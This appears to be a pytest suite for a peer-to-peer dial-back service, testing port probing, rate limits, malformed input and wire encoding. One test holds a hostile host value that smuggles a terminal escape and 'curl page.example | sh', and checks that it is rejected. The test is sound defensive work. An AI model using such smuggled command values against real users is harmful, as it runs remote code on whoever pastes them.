"""A peer dials back on request: at the address it sees, nowhere else, and not too often."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import struct
from collections.abc import AsyncIterator
from typing import Any

import pytest

from pulsenet.errors import RemoteProtocolError, UnavailableError
from pulsenet.ids import PeerId, RunId
from pulsenet.wire.schema import encode_value
from pulsenetd.network import dial_back
from pulsenetd.network.dial_back import GREETING, DialBackReply, DialBackRequest, DialBackServer, ask

RUN_ID = RunId(bytes(range(32)))
ASKER = PeerId(bytes([7]) * 32)


class Clock:
    now = 100.0

    def __call__(self) -> float:
        return self.now


class Peer:
    """A server behind a socket pair instead of p2pd."""

    def __init__(self, host: str | None = "ip4/127.0.0.1") -> None:
        self.clock = Clock()
        self._host = host
        self.server = DialBackServer(RUN_ID, self._find, self.clock)
        self._serving: set[asyncio.Task[None]] = set()

    async def _find(self, _peer_id: PeerId) -> str | None:
        return self._host

    async def open(self, peer_id: PeerId, name: str, _seconds: float) -> Any:
        assert name == dial_back.STREAM_NAME
        ours, theirs = socket.socketpair()
        reader, writer = await asyncio.open_connection(sock=theirs)
        serving = asyncio.create_task(self.server.serve_stream(b"\x00\x24\x08\x01\x12\x20" + peer_id, reader, writer))
        self._serving.add(serving)
        serving.add_done_callback(self._serving.discard)
        return await asyncio.open_connection(sock=ours)

    async def asked(self, *ports: int, peer_id: PeerId = ASKER, run_id: RunId = RUN_ID) -> DialBackReply:
        return await ask(self.open, peer_id, DialBackRequest(run_id, ports))


@contextlib.asynccontextmanager
async def listener(greeting: bytes) -> AsyncIterator[int]:
    async def greet(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(greeting)
        with contextlib.suppress(OSError):
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(greet, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1]


async def test_an_open_port_a_closed_one_and_another_program_are_told_apart() -> None:
    async with listener(GREETING) as libp2p, listener(b"HTTP/1.1 400 Bad Request\r\n") as router:
        reply = await Peer().asked(libp2p, 1, router)
    assert reply == DialBackReply("127.0.0.1", ("open", "refused", "refused"))


async def test_who_asks_again_at_once_is_told_to_wait() -> None:
    peer = Peer()
    assert (await peer.asked(1)).outcomes == ("refused",)
    assert (await peer.asked(1)).outcomes == ("busy",)
    assert (await peer.asked(1, peer_id=PeerId(bytes([8]) * 32))).outcomes == ("refused",)
    peer.clock.now += dial_back.AGAIN_SECONDS
    assert (await peer.asked(1)).outcomes == ("refused",)


async def test_another_run_and_a_peer_without_an_address_get_no_knock() -> None:
    assert await Peer().asked(1, run_id=RunId(bytes(32))) == DialBackReply("", ("other-run",))
    assert await Peer(host=None).asked(1) == DialBackReply("", ("unknown",))


@pytest.mark.parametrize("data", [struct.pack("<H", 60_000), struct.pack("<H", 3) + b"\xff\xff\xff", b"\x05"])
async def test_bytes_that_are_no_request_end_the_stream(data: bytes) -> None:
    reader, writer = await Peer().open(ASKER, dial_back.STREAM_NAME, 1.0)
    writer.write(data)
    writer.write_eof()
    with contextlib.suppress(ConnectionError):
        assert await reader.read() == b""
    writer.close()


async def test_a_reply_that_is_none_and_a_peer_that_hangs_up_are_errors() -> None:
    for data, error in ((struct.pack("<H", 1) + b"\xc0", RemoteProtocolError), (b"", UnavailableError)):
        ours, theirs = socket.socketpair()
        theirs.sendall(data)
        theirs.shutdown(socket.SHUT_WR)

        async def open_it(*_: Any, ours: socket.socket = ours) -> Any:
            return await asyncio.open_connection(sock=ours)

        with pytest.raises(error):
            await ask(open_it, ASKER, DialBackRequest(RUN_ID, (1,)))
        theirs.close()


@pytest.mark.parametrize(
    "reply",
    [
        DialBackReply("fe80::1%\x1b[2J; curl page.example | sh", ("open",)),
        DialBackReply("page.example", ("open",)),
        DialBackReply("192.0.2.1", ("\x1b[2J",)),
        DialBackReply("192.0.2.1", ("open", "busy")),
    ],
)
async def test_a_reply_with_words_of_its_own_is_none(reply: DialBackReply) -> None:
    """People read it in the log, with an option to paste."""
    ours, theirs = socket.socketpair()
    data = encode_value(reply)
    theirs.sendall(struct.pack("<H", len(data)) + data)

    async def open_it(*_: Any) -> Any:
        return await asyncio.open_connection(sock=ours)

    with theirs, pytest.raises(RemoteProtocolError):
        await ask(open_it, ASKER, DialBackRequest(RUN_ID, (1,)))


async def test_askers_are_forgotten_beyond_a_bound_also_while_it_is_busy(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dial_back, "SIMULTANEOUS_MAX", 0)
    monkeypatch.setattr(dial_back, "ASKERS_MAX", 3)
    peer = Peer()
    for number in range(6):
        assert (await peer.asked(1, peer_id=PeerId(bytes([number]) * 32))).outcomes == ("busy",)
    assert len(peer.server._asked_at) == 3


def test_the_bytes_are_those_of_the_specification() -> None:
    assert encode_value(DialBackRequest(RUN_ID, (4001,))).hex() == (
        "82a5706f72747391cd0fa1a672756e5f6964c420" + bytes(range(32)).hex()
    )
    assert encode_value(DialBackReply("192.0.2.1", ("open",))).hex() == (
        "82a4686f7374a93139322e302e322e31a86f7574636f6d657391a46f70656e"
    )
    assert GREETING.hex() == "132f6d756c746973747265616d2f312e302e300a"


def test_a_request_fits_its_bound() -> None:
    largest = DialBackRequest(RUN_ID, (65_535,) * dial_back.PORTS_MAX)
    assert len(encode_value(largest)) < dial_back.MESSAGE_SIZE_BYTES_MAX
    longest = DialBackReply("f" * 64, ("t" * 16,) * dial_back.PORTS_MAX)
    assert len(encode_value(longest)) < dial_back.MESSAGE_SIZE_BYTES_MAX
